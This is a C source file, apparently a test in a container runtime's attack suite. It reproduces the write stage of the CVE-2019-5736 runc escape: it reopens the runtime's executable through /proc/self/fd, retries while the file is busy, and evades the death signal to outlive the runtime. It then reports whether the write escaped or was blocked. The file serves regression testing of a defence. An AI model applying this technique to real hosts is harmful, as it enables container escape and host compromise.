/*
 * overwrite FD: the second half of CVE-2019-5736 (see
 * tests/attacks/exe-preload.c). FD is the runtime's executable, as
 * /proc/self/exe showed it inside the container. Reopens it for writing
 * through /proc/self/fd/FD, retrying while the runtime still runs
 * (ETXTBSY) for up to 10 s, and appends a line. Prints ESCAPED when the
 * write landed, else BLOCKED and why, to /out/result if there is an /out,
 * else to stdout. Outside PID 1 it works in the background, as the attack
 * does after runc exec has returned. First it cuts its death signal, as
 * an attacker would, to outlive a runtime that is killed: the kernel
 * clears it at any change of credentials (prctl(2) PR_SET_PDEATHSIG).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fsuid.h>
#include <time.h>
#include <unistd.h>

static int
report(const char *line)
{
    FILE *f = fopen("/out/result.tmp", "w");

    if (f == NULL)
        return printf("%s\n", line) < 0;
    fprintf(f, "%s\n", line);
    fclose(f);
    return rename("/out/result.tmp", "/out/result") == -1;
}

int
main(int argc, char *argv[])
{
    static const char mark[] = "written from inside the container\n";
    const struct timespec tick = {0, 10 * 1000 * 1000};
    char path[64], line[256];
    int fd = -1, i;

    if (argc != 2)
        return 2;
    setfsuid(1);
    setfsuid(0);
    if (getpid() != 1 && fork() != 0)
        return 0;
    snprintf(path, sizeof(path), "/proc/self/fd/%s", argv[1]);
    for (i = 0; i < 1000; i++) {
        fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd != -1 || errno != ETXTBSY)
            break;
        nanosleep(&tick, NULL);
    }
    if (fd == -1)
        snprintf(line, sizeof(line), "BLOCKED open: %s", strerror(errno));
    else if (write(fd, mark, sizeof(mark) - 1) != (ssize_t)(sizeof(mark) - 1))
        snprintf(line, sizeof(line), "BLOCKED write: %s", strerror(errno));
    else
        snprintf(line, sizeof(line), "ESCAPED: the runtime's file was written");
    return report(line);
}
